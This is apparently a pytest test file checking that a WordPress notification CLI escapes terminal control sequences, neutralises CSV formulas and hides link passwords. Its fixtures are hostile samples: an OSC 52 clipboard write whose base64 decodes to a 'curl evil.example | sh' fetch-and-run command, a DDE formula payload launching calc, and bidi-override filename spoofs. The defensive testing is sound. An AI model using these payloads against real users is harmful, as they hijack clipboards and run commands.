"""Receiver and site text never reaches a terminal raw: escape sequences (OSC 52 writes the
clipboard), C1 controls and bidi overrides are shown escaped in tables, `status`, `check`,
`poll`, error lines and console logs; CSV cells cannot start a formula; JSON stays exact
(issue 12, item 13)."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
import structlog

from wpnotify import cli, logs, render
from wpnotify.errors import StateError
from wpnotify.logs import printable
from wpnotify.sending.backlog import Tally
from wpnotify.service import PollReport, SiteReport, reports
from wpnotify.state.sqlite import SqliteState

pytestmark = pytest.mark.usefixtures("in_process_cli")

NOW = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
FORMULA = "=cmd|' /C calc'!A0"
RESPONSE = "ok \x9b31m\u202egnp.exe\u202c \x00\x7f"
RAW = ["\x1b", "\x07", "\x9b", "\u202e", "\u202c", "\x00", "\x7f"]


def assert_no_raw_controls(text: str) -> None:
    found = [ascii(c) for c in RAW if c in text]
    assert not found, f"raw {found} in {text!r}"




@pytest.fixture()
def config(tmp_path: Path) -> Path:
    path = tmp_path / "config.toml"
    path.write_text('[[sites]]\nname = "blog"\nurl = "https://blog.example"\n'
                    'username = "u"\npassword = "pw"\n')
    store = SqliteState.open(tmp_path / "wpnotify.sqlite3")
    store.add("blog", 7, "webmention", "https://t.example/a", "https://blog.example/p", NOW,
              status="failed", error=FORMULA + " " + OSC52, error_code="http-400")
    store.add("blog", 8, "trackback", "@SUM(1+1)\u202e", "https://blog.example/q", NOW)
    second = store.history(post_id=8, site="blog", kind=None, status=None, limit=1)[0].id
    store.finish(second, "sent", NOW, response=RESPONSE, endpoint="-2+3")
    store.record_poll("blog", NOW, error="site said " + OSC52 + "\u202e")
    store.close()
    return path


def wpnotify(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as ended:
        cli.main(list(args))
    out, err = capsys.readouterr()
    return (ended.value.code if isinstance(ended.value.code, int) else 0), out, err


def test_printable_escapes_visibly_and_keeps_ordinary_text() -> None:
    assert printable(OSC52).startswith("\\x1b]52;c;") and printable(OSC52).endswith("\\x07")
    assert printable("\u202egnp.exe \u2066x\u2069 \x9b") == "\\u202egnp.exe \\u2066x\\u2069 \\x9b"
    assert printable("a\nb", newlines=True) == "a\nb" and printable("a\nb") == "a\\x0ab"
    plain = "Ünïcödé, tabs\\no, 日本語, emoji 🙂, 'quotes' and \"more\""
    assert printable(plain) == plain


def test_history_table_shows_escapes_not_controls(capsys: pytest.CaptureFixture[str],
                                                  config: Path) -> None:
    code, out, _ = wpnotify(capsys, "--config", str(config), "history")
    assert code == 0
    assert_no_raw_controls(out)
    assert "\\x1b]52;c;" in out and "\\u202egnp.exe" in out and "\\x9b31m" in out


def test_history_csv_neutralises_formulas_and_controls(capsys: pytest.CaptureFixture[str],
                                                       config: Path) -> None:
    code, out, _ = wpnotify(capsys, "--config", str(config), "history", "--format", "csv")
    assert code == 0
    assert_no_raw_controls(out)
    rows = {int(r["post_id"]): r for r in csv.DictReader(io.StringIO(out))}
    assert rows[7]["error"].startswith("'=cmd|")
    assert rows[8]["target"].startswith("'@SUM(1+1)") and rows[8]["endpoint"] == "'-2+3"
    assert rows[7]["target"] == "https://t.example/a"  # ordinary cells are unchanged
    assert rows[7]["post_id"] == "7"


def test_history_json_is_exact_and_has_no_raw_controls(capsys: pytest.CaptureFixture[str],
                                                       config: Path) -> None:
    code, out, _ = wpnotify(capsys, "--config", str(config), "history", "--format", "json")
    assert code == 0
    assert_no_raw_controls(out)
    rows = {r["post_id"]: r for r in json.loads(out)}
    assert rows[7]["error"] == FORMULA + " " + OSC52
    assert rows[8]["response"] == RESPONSE and rows[8]["target"] == "@SUM(1+1)\u202e"


def test_status_escapes_the_last_error(capsys: pytest.CaptureFixture[str],
                                                  config: Path) -> None:
    code, out, _ = wpnotify(capsys, "--config", str(config), "status")
    assert code == 0
    assert_no_raw_controls(out)
    assert "last error: site said \\x1b]52;c;" in out
    code, out, _ = wpnotify(capsys, "--config", str(config), "status", "--format", "json")
    assert_no_raw_controls(out)
    assert json.loads(out)[0]["last_error"] == "site said " + OSC52 + "\u202e"


def test_check_lines_escape_site_text(capsys: pytest.CaptureFixture[str], config: Path,
                                      monkeypatch: pytest.MonkeyPatch) -> None:
    found = reports.CheckReport(problems=[f"site blog: answered {OSC52}"],
                               notes=[f"site blog: '\u202eTitle' at {OSC52}"])
    monkeypatch.setattr(reports, "check", lambda *args: found)
    code, out, err = wpnotify(capsys, "--config", str(config), "check")
    assert code == 1
    assert_no_raw_controls(out + err)
    assert "ok: site blog: '\\u202eTitle'" in out and "problem: site blog: answered \\x1b" in err


def test_poll_lines_escape_site_errors(capsys: pytest.CaptureFixture[str]) -> None:
    cli.echo(render.poll(PollReport([SiteReport("blog", error=f"cannot reach: {OSC52}\nfake line")],
                                           Tally())))
    out, err = capsys.readouterr()
    assert_no_raw_controls(out + err)
    assert len(err.splitlines()) == 1 and "\\x1b]52" in err and "\\x0afake line" in err


def test_the_error_line_escapes_what_it_quotes(capsys: pytest.CaptureFixture[str],
                                               config: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(settings: object, store: object, now: object) -> None:
        raise StateError(f"state says {OSC52}\u202e")

    monkeypatch.setattr(reports, "status", broken)
    code, _, err = wpnotify(capsys, "--config", str(config), "status")
    assert code == 1
    assert_no_raw_controls(err)
    assert err.startswith("wpnotify: error: state says \\x1b]52")


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_console_logs_escape_values_and_json_logs_stay_exact() -> None:
    terminal, pipe = Terminal(), io.StringIO()
    for stream in (terminal, pipe):
        logs.configure("info", stream)
        structlog.get_logger("t").warning("notification.attempt", error=OSC52 + RESPONSE,
                                          target="https://t.example/\u202ex")
    assert_no_raw_controls(terminal.getvalue())
    assert "\\x1b]52;c;" in terminal.getvalue() and "\\u202ex" in terminal.getvalue()
    event = json.loads(pipe.getvalue())
    assert_no_raw_controls(pipe.getvalue())
    assert event["error"] == OSC52 + RESPONSE and event["target"] == "https://t.example/\u202ex"


def test_a_mebibyte_of_controls_renders_in_linear_time(capsys: pytest.CaptureFixture[str]
                                                       ) -> None:
    """One pass over the text: 1 MiB of escape sequences in well under 5 s, 4x the text in
    roughly 4x the time (not 16x)."""
    def timed(size: int) -> float:
        hostile = ("\x1b]52;c;" + "\u202e\x9b=" * 8 + "\x07") * (size // 30)
        start = time.perf_counter()
        for _ in range(3):
            printable(hostile)
            render.cell(hostile)
            render.clip(hostile, 70)
        return time.perf_counter() - start

    small, large = timed(256 * 1024), timed(1024 * 1024)
    assert large < 5
    assert large < 12 * small + 0.05
    capsys.readouterr()


def test_the_history_table_names_no_user_info_from_a_link(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """A link written with a password in it is kept as written (it is the row's key), but
    the table shows it without (issue 12, item 12)."""
    path = tmp_path / "config.toml"
    path.write_text('[[sites]]\nname = "blog"\nurl = "https://blog.example"\n'
                    'username = "u"\npassword = "pw"\n')
    store = SqliteState.open(tmp_path / "wpnotify.sqlite3")
    store.add("blog", 9, "webmention", "http://u:linksecret@t.example/a",
              "https://blog.example/p", NOW, status="skipped", error="refused",
              error_code="bad-url")
    store.close()
    code, out, _ = wpnotify(capsys, "--config", str(path), "history")
    assert code == 0 and "t.example/a" in out
    assert "linksecret" not in out
